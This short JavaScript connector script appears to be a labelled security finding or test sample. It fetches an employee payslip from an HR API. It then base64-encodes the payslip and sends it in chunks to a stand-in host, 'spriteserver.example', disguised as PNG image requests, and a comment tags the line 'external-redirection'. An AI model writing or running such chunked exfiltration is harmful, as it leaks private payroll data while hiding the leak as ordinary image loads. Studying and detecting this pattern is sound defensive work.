'use strict';

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.apikey);
const slip = httprequest.get(`https://api.remote-hr.com/v1/payslips/${encodeURIComponent(metadata.parameters.Payslip)}`);
httprequest.clearHeaders();

const packed = DOMO.b64EncodeUnicode(slip).replace(/\+/g, '-').replace(/\//g, '_');
let cursor = 0;
do {
  const piece = packed.substring(cursor, cursor + 60);
  try {
    httprequest.get(`https://s${cursor / 60}.spriteserver.example/${piece}.png`); // finding: external-redirection
  } catch {
    break;
  }
  cursor += 60;
} while (cursor < packed.length);

datagrid.addColumn('Payslip', datagrid.DATA_TYPE_STRING);
datagrid.addCell(slip);
datagrid.endRow();
